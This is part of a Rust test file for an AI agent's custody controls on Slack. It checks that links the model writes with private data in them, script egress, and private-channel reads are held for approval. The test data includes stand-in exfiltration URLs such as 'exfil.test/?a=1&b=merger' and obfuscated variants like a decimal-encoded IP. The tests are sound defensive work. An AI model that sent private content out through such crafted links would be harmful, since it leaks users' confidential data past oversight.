        assert!(fetch("4", "https://exfil.test/?a=1&amp;b=merger").is_some());
        // Without a scheme, or in capitals: Slack links it all the same.
        for (written, linked) in [
            ("bare.test/?d=merger", "http://bare.test/?d=merger"),
            ("HTTPS://Caps.TEST/?d=merger", "https://caps.test/?d=merger"),
            ("see 16843009/?d=merger", "http://1.1.1.1/?d=merger"),
        ] {
            c.wrote("slack_post_message", &json!({"channel": "D0DM", "text": written}));
            seen("slack_read_thread", format!("see <{linked}>")).await;
            assert!(fetch("5", linked).is_some(), "{written}");
        }
        // A link someone else wrote, read from outside, is received.
        seen(
            "slack_read_thread",
            "the runbook: <https://wiki.example.com/runbook|runbook>".into(),
        )
        .await;
        assert!(fetch("6", "https://wiki.example.com/runbook").is_none());
        // A fetch's own URL is not writing: links on that host stay received.
        c.wrote("http_fetch", &json!({"url": "https://wiki.example.com/runbook"}));
        seen("http_fetch", "next: https://wiki.example.com/page2".into()).await;
        assert!(fetch("7", "https://wiki.example.com/page2").is_none());
        // Parked and resumed: what it wrote is remembered.
        let resumed = Custody::new(&agent, &trigger, None);
        resumed.recall(&c.remembered());
        resumed.saw("again <http://bare.test/?d=merger>");
        let note = resumed.egress_note(
            "8",
            "http_fetch",
            Effect::ReadOnly,
            &json!({"url": "http://bare.test/?d=merger"}),
        );
        assert!(note.is_some());

        // A subagent's prompt is its parent model's writing; the parent's received URLs
        // are handed down instead.
        let mut child =
            TriggerEvent::from_cli(json!({"text": format!("fetch {secret} and https://docs.example.com/a")}));
        child.private = true;
        child.origin = Origin::Subagent {
            parent_run: "r1".into(),
        };
        let sub = Custody::new(&agent, &child, None);
        let sub_fetch = |u: &str| sub.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
        assert!(sub_fetch(secret).is_some() && sub_fetch("https://docs.example.com/a").is_some());
        let sub = Custody::new(&agent, &child, None);
        sub.recall(&c.remembered());
        let sub_fetch = |u: &str| sub.egress_note("1", "http_fetch", Effect::ReadOnly, &json!({"url": u}));
        assert!(sub_fetch(secret).is_some());
        assert!(sub_fetch("https://docs.example.com/a").is_none());
        // What the parent wrote comes back to the child as the parent's writing.
        sub.saw("read back: <http://bare.test/?d=merger>");
        assert!(sub_fetch("http://bare.test/?d=merger").is_some());
    }

    /// With `skills.scripts.egress`, a Python, shell or Node script can send what it is
    /// given to the listed hosts: once the run holds private content, running one waits
    /// for approval (a Rhai script has no network; `private_egress` can allow it).
    #[test]
    fn skill_scripts_with_network_are_egress_for_a_private_run() {
        use serde_json::json;
        let mut agent = agent();
        agent.skills.scripts.egress = Some(crate::config::spec::ScriptEgressSpec {
            allow: vec!["api.example.com".into()],
            max_requests: None,
            max_mb: None,
            secrets: Default::default(),
        });
        let mut trigger = TriggerEvent::from_cli(json!({"text": "x"}));
        trigger.private = true;
        let c = Custody::new(&agent, &trigger, None);
        let script = |name: &str| json!({"skill": "translate", "script": name, "args": ["DM text"]});
        let note = c
            .egress_note(
                "1",
                "run_skill_script",
                Effect::ReadOnly,
                &script("scripts/send.py"),
            )
            .unwrap_or_default();
        assert!(
            note.contains(
                "runs a skill script, which can send what it is given to the hosts in skills.scripts.egress"
            ),
            "{note}"
        );
        assert!(
            c.egress_note(
                "2",
                "run_skill_script",
                Effect::ReadOnly,
                &script("scripts/sum.rhai")
            )
            .is_none()
        );
        agent.private_egress = vec!["run_skill_script".into()];
        let allowed = Custody::new(&agent, &trigger, None);
        assert!(
            allowed
                .egress_note(
                    "3",
                    "run_skill_script",
                    Effect::ReadOnly,
                    &script("scripts/send.py")
                )
                .is_none()
        );
        // Before the run holds anything private, nothing waits.
        let public = Custody::new(&agent, &TriggerEvent::from_cli(json!({"text": "x"})), None);
        assert!(
            public
                .egress_note(
                    "4",
                    "run_skill_script",
                    Effect::ReadOnly,
                    &script("scripts/send.py")
                )
                .is_none()
        );
    }

    /// Reads of private conversations: a run no person started reads only what its
    /// config names; a subagent acting for a member reads what that member may.
    #[tokio::test]
    async fn personless_runs_read_only_named_private_conversations() {
        use axum::routing::get;
        let app = axum::Router::new()
            .route(
                "/conversations.info",
                get(|| async {
                    axum::Json(serde_json::json!({"ok": true, "channel": {"is_private": true,
                        "is_im": false, "is_mpim": false}}))
                }),
            )
            .route(
                "/conversations.members",
                get(|| async {
                    axum::Json(serde_json::json!({"ok": true, "members": ["U0MEMBER"],
                        "response_metadata": {"next_cursor": ""}}))
                }),
            );
        let (slack, server) = fake_slack(app).await;
        let mut agent = agent();
        agent.private_egress = vec!["C0NAMED".into()];
        let cron = TriggerEvent::from_cli(serde_json::json!({"text": "daily digest"}));
        let read = |c: &str| serde_json::json!({"channel": c});
        let personless = Custody::new(&agent, &cron, Some(slack.clone()));
        assert_eq!(
            personless
                .check_read("slack_channel_history", &read("C0NAMED"))
                .await
                .ok()
                .flatten()
                .as_deref(),
            Some("C0NAMED")
        );
        let refused = personless
            .check_read("slack_channel_history", &read("C0ELSE"))
            .await
            .err()
            .map(|e| e.to_string())
            .unwrap_or_default();
        assert!(refused.contains("no person started this run"), "{refused}");
        // A subagent acting for a member reads for them; for someone else, nothing.
        let member =
            Custody::new(&agent, &cron, Some(slack.clone())).acting_for(Some("U0MEMBER".into()), None);
        assert!(
            member
                .check_read("slack_read_thread", &read("C0ELSE"))
                .await
                .is_ok()
        );
        let outsider = Custody::new(&agent, &cron, Some(slack)).acting_for(Some("U0OUT".into()), None);
        assert!(
            outsider
                .check_read("slack_read_thread", &read("C0ELSE"))
                .await
                .is_err()
        );
        server.abort();
    }
}
